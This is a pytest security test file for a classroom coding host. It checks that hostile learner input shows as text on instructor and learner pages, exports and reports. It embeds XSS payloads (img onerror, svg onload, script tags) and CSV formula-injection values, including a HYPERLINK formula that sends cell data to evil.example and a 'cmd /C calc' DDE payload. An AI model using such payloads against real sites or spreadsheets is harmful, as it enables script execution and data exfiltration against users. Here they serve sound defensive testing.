"""Probes: stored XSS through everything a learner types, in real Chromium as the victim.

A learner's display name, student id and code carry markup that would run or
plant an element if any page inserted it as HTML: the instructor page (grid,
student-id clashes, drill-down with every version and the diff), the
learner's own page (Earlier versions), and the HTML `report` makes from the
class's export. The victim's browser must show the text, plant no element and
run nothing.
"""

from __future__ import annotations

import subprocess
import time

import pytest
from browser import browser
from host_probes import Learner, running_host
from test_host_support import console_script

pytest.importorskip("httpx", reason="httpx is not installed (pip install 'attn-practice[test]')")
pytestmark = pytest.mark.slow

NAME = '<img id=pwned1 src=x onerror="document.title=\'PWNED\'">Mallory'
SID = '"><svg id=pwned2 onload="document.title=\'PWNED\'">'
CODE = ('"""</textarea></pre><b id=pwned3>x</b><script>document.title="PWNED"</script>"""\n'
        "import numpy as np\n\ndef scores(q, k):\n    return q * k  # <i id=pwned4>\n")
PLANTED = "return [...document.querySelectorAll('[id^=pwned]')].map(e => e.id)"


def _safe(b, where: str) -> None:
    assert b.execute_script(PLANTED) == [], f"markup planted in {where}"
    assert b.title != "PWNED", f"script ran in {where}"


@pytest.fixture(scope="module")
def lab(tmp_path_factory):
    folder = tmp_path_factory.mktemp("xss")
    with running_host(folder / "class") as h:
        holder = Learner(h, "Holder", student_id="s-100")
        mallory = Learner(h, NAME, student_id=SID)
        assert mallory.resume_link, mallory.joined.text
        Learner(h, NAME + " two", student_id="s-100")  # a clash the instructor page lists
        for code in (CODE, CODE.replace("q * k", "q @ k.T")):
            assert mallory.save("step1", code).status_code == 200
        r = mallory.post("/api/step/step1/check")
        assert r.status_code == 200, r.text
        assert holder.client.get("/api/summary").status_code == 200
        yield h, folder, mallory


def test_the_instructor_page_shows_hostile_text_as_text(lab):
    h, _, _ = lab
    with browser(1280, 900) as b:
        b.get(f"{h.base}/teach?key={h.key}")
        b.wait_for(lambda d: "Mallory" in d.find_element("id", "grid").text)
        b.wait_for(lambda d: "tried to join with student id" in d.page_source)
        _safe(b, "the instructor page")
        # Found and clicked in one step of the page's own: the live grid may redraw its rows
        # between a lookup and a click from here (a stale element).
        b.wait_for(lambda d: d.execute_script(
            "const b = [...document.querySelectorAll('#grid tbody th button[data-learner]')]"
            ".find(e => e.textContent.trim().startsWith('<img'));"
            "if (b) { b.click(); } return Boolean(b);"))
        b.wait_for(lambda d: d.execute_script("return document.getElementById('drill').open"))
        b.wait_for(lambda d: "id=pwned4" in d.find_element("id", "drill").text)  # the code, as text
        for details in b.find_elements("css selector", "#drill details"):
            b.execute_script("arguments[0].open = true", details)
        time.sleep(0.5)
        _safe(b, "the drill-down")


def test_the_learners_own_page_shows_their_code_as_text(lab):
    h, _, mallory = lab
    with browser(1280, 900) as b:
        b.get(f"{h.base}/")
        b.add_cookie({"name": "attnp_learner", "value": mallory.client.cookies["attnp_learner"],
                      "path": "/"})
        b.get(f"{h.base}/step/step1")
        b.wait_for(lambda d: "scores" in d.page_source)
        time.sleep(1)
        _safe(b, "the learner's page")


def test_the_report_of_the_export_shows_hostile_text_as_text(lab):
    h, folder, _ = lab
    out = folder / "class.json"
    done = subprocess.run([console_script(), "host", "export", str(h.data_dir), "--format", "json",
                           "--out", str(out)], capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stderr
    html = folder / "class.html"
    done = subprocess.run([console_script(), "report", str(out), "--out", str(html)],
                          capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stderr
    assert "<img id=pwned1" not in html.read_text()
    with browser(1280, 900) as b:
        b.get(html.as_uri())
        b.wait_for(lambda d: "svg id=pwned2" in d.find_element("tag name", "body").text)
        _safe(b, "the class report")


def test_the_csv_export_cannot_run_a_formula(lab):
    h, _, _ = lab
    Learner(h, '=HYPERLINK("http://evil.example/?"&A1,"open")', student_id="@SUM(1+1)")
    Learner(h, "+1+cmd|' /C calc'!A0", student_id="-2+3")
    teacher = h.client()
    assert teacher.get(f"/teach?key={h.key}").status_code == 303
    import csv
    import io

    rows = list(csv.reader(io.StringIO(teacher.get("/teach/export.csv").text)))
    for row in rows[1:]:
        for cell in row:
            assert not cell or cell[0] not in "=+-@\t\r", (cell, row)


def test_nothing_reflects_markup_into_a_page(lab):
    from urllib.parse import quote

    h, _, mallory = lab
    payload = quote('<script>alert(1)</script>"\'><svg onload=alert(1)>')
    paths = [f"/step/{payload}", f"/join/{payload}", f"/resume/{payload}", f"/teach?key={payload}",
             f"/api/step/{payload}", f"/api/widget/{payload}", f"/api/widget/scale?d_k={payload}",
             f"/static/{payload}", f"/{payload}", f"/teach/export.{payload}",
             f"/lti/login?iss={payload}&login_hint=x&target_link_uri=y"]
    for client in (h.client(), mallory.client):
        for path in paths:
            r = client.get(path)
            assert r.status_code < 500, (path, r.status_code)
            if r.headers["content-type"].startswith("text/html"):
                assert "<script>alert" not in r.text and "<svg onload" not in r.text, path
            else:  # JSON is never sniffed as a page
                assert r.headers["content-type"].startswith("application/json")
                assert r.headers["x-content-type-options"] == "nosniff"
    r = h.client().post("/lti/launch", data={"error": "<svg onload=alert(1)>", "error_description": "<b>x"})
    assert "<svg onload" not in r.text and "<b>x" not in r.text
